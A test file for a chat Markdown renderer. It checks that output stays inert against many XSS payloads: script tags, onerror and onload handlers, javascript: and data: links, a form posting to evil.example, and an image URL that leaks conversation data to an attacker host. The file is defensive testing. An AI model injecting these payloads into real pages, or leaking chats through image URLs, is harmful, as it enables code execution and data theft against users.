// @vitest-environment happy-dom
import { act, cleanup, fireEvent, screen } from '@testing-library/react'
import { afterEach, describe, expect, it, vi } from 'vitest'
import { renderUi } from '#app/ui/testing/render'
import { ChatMarkdown } from './chat-markdown'
import { safeHref } from './safe-url'

afterEach(() => {
  cleanup()
  vi.useRealTimers()
})

function render(text: string, locale: 'ja' | 'en' = 'ja') {
  const { container } = renderUi(<ChatMarkdown text={text} />, { locale })
  return container
}

const DANGEROUS_ELEMENTS =
  'script, iframe, object, embed, style, img, svg:not([aria-hidden]), form, link, meta, base'

/** Nothing in the output can run code or fetch anything by itself. */
function expectInert(container: HTMLElement) {
  expect(container.querySelectorAll(DANGEROUS_ELEMENTS)).toHaveLength(0)
  for (const element of container.querySelectorAll('*')) {
    for (const attribute of element.getAttributeNames()) {
      expect(attribute.startsWith('on'), `${element.tagName} has ${attribute}`).toBe(false)
      if (
        attribute === 'href' ||
        attribute === 'src' ||
        attribute === 'action' ||
        attribute === 'formaction'
      ) {
        expect(
          safeHref(element.getAttribute(attribute)),
          `${attribute}=${element.getAttribute(attribute)}`,
        ).toBeDefined()
      }
    }
  }
}

describe('ChatMarkdown', () => {
  it('renders Markdown and GitHub-flavoured extras as elements', () => {
    const container = render(
      '# 見出し\n\n**太字** と ~~取り消し~~\n\n- 一\n- 二\n\n| 項目 | 値 |\n|---|---|\n| プラン | 3 |\n\n`inline`',
    )
    expect(container.querySelector('h1')?.textContent).toBe('見出し')
    expect(container.querySelector('strong')?.textContent).toBe('太字')
    expect(container.querySelector('del')?.textContent).toBe('取り消し')
    expect(container.querySelectorAll('li')).toHaveLength(2)
    expect(container.querySelector('table td')?.textContent).toBe('プラン')
    // A wide table scrolls in its own box, which a keyboard can focus to scroll.
    const scrollBox = container.querySelector('table')?.parentElement
    expect(scrollBox?.getAttribute('tabindex')).toBe('0')
    expect(scrollBox?.getAttribute('aria-label')).toBe('表（横にスクロールできます）')
    expect(container.querySelector('p code')?.textContent).toBe('inline')
    expect(container.querySelector('figure')).toBeNull()
  })

  it('shows a <script> from model output or user input as text', () => {
    const container = render(
      'こんにちは <script>alert("xss")</script> です\n\n<script>\nfetch("/steal")\n</script>',
    )
    expect(container.querySelector('script')).toBeNull()
    expect(container.textContent).toContain('<script>alert("xss")</script>')
    expect(container.textContent).toContain('fetch("/steal")')
    expectInert(container)
  })

  it('shows <img onerror> as text and never loads it', () => {
    const container = render('<img src=x onerror="alert(1)">')
    expect(container.querySelector('img')).toBeNull()
    expect(container.textContent).toContain('<img src=x onerror="alert(1)">')
    expectInert(container)
  })

  it.each([
    '[click](javascript:alert(1))',
    '[click](JaVaScRiPt:alert(1))',
    '[click](&#106;avascript:alert(1))',
    '[click](&#x6A;avascript&#58;alert(1))',
    '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[click](vbscript:msgbox(1))',
    '[click](/api/admin/delete)',
    '[click](//evil.example)',
    '[click]( javascript:alert(1) )',
    '<javascript:alert(1)>',
  ])('drops the unsafe link in %s and keeps its text', (text) => {
    const container = render(text)
    expect(container.querySelector('a')).toBeNull()
    expectInert(container)
  })

  it('opens http, https and mailto links in a new tab without an opener or referrer', () => {
    const container = render(
      '[docs](https://example.com/docs?q=1) <http://example.org> mail@example.com [mail](mailto:a@example.com)',
    )
    const links = [...container.querySelectorAll('a')]
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      'https://example.com/docs?q=1',
      'http://example.org/',
      'mailto:mail@example.com',
      'mailto:a@example.com',
    ])
    for (const link of links) {
      expect(link.getAttribute('target')).toBe('_blank')
      expect(link.getAttribute('rel')).toBe('noopener noreferrer')
    }
    expect(screen.getByRole('link', { name: /docs/ }).textContent).toContain('新しいタブで開きます')
  })

  it('does not load images (no exfiltration through image URLs): they become links', () => {
    const container = render(
      '![秘密の図](https://evil.example/x.png?leak=conversation) ![x](javascript:alert(1))',
    )
    expect(container.querySelector('img')).toBeNull()
    const link = screen.getByRole('link', { name: /\[画像: 秘密の図\]/ })
    expect(link.getAttribute('href')).toBe('https://evil.example/x.png?leak=conversation')
    expect(container.textContent).toContain('[画像: x]')
    expect(container.querySelectorAll('a')).toHaveLength(1)
  })

  it.each([
    '<a href="javascript:alert(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<svg onload=alert(1)>',
    '<body onload=alert(1)>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<style>body{display:none}</style>',
    '<form action="https://evil.example"><button>go</button></form>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '"><img src=x onerror=alert(1)>',
    '[a](https://ok.example "title\\" onmouseover=\\"alert(1)")',
  ])('keeps the payload %s inert', (payload) => {
    const container = render(`テキスト ${payload} テキスト\n\n${payload}`)
    expectInert(container)
    expect(container.querySelector('[style]')).toBeNull()
  })

  it('shows fenced code with its language, as text, with a copy button', async () => {
    const writeText = vi.fn(async () => {})
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true })
    const code = 'const html = "<script>alert(1)</script>"\nconsole.log(html)'
    const container = render(`説明\n\n\`\`\`ts\n${code}\n\`\`\``)
    expect(container.querySelector('figcaption')?.textContent).toContain('ts')
    expect(container.querySelector('pre code')?.textContent).toBe(code)
    // A long line scrolls sideways: the block takes focus so keys can scroll it.
    expect(container.querySelector('pre')?.tabIndex).toBe(0)
    expect(container.querySelector('script')).toBeNull()
    vi.useFakeTimers()
    await act(async () => {
      fireEvent.click(screen.getByRole('button', { name: 'コードをコピー' }))
    })
    expect(writeText).toHaveBeenCalledWith(code)
    expect(screen.getByRole('button', { name: 'コピーしました' })).toBeTruthy()
    act(() => {
      vi.advanceTimersByTime(2000)
    })
    expect(screen.getByRole('button', { name: 'コードをコピー' })).toBeTruthy()
  })

  it('says so when the clipboard refuses', async () => {
    Object.defineProperty(navigator, 'clipboard', {
      value: { writeText: async () => Promise.reject(new Error('denied')) },
      configurable: true,
    })
    render('```\nplain\n```')
    expect(screen.getByText('コード')).toBeTruthy()
    await act(async () => {
      fireEvent.click(screen.getByRole('button', { name: 'コードをコピー' }))
    })
    expect(screen.getByRole('button', { name: 'コピーできませんでした' })).toBeTruthy()
  })

  it('ignores a language name that is not one', () => {
    const container = render('```<img/src=x/onerror=alert(1)>\ncode\n```')
    expectInert(container)
    expect(container.querySelector('figcaption span')?.textContent).toBe('コード')
  })

  it('speaks English when the page does', () => {
    render('```js\nx\n```\n\n![chart](https://example.com/c.png)', 'en')
    expect(screen.getByRole('button', { name: 'Copy code' })).toBeTruthy()
    expect(screen.getByRole('link', { name: /\[Image: chart\]/ })).toBeTruthy()
  })

  it('renders a reply that is still streaming (an unclosed code fence) without failing', () => {
    const container = render('途中まで:\n\n```python\nprint("hel')
    expect(container.querySelector('pre code')?.textContent).toBe('print("hel')
  })
})
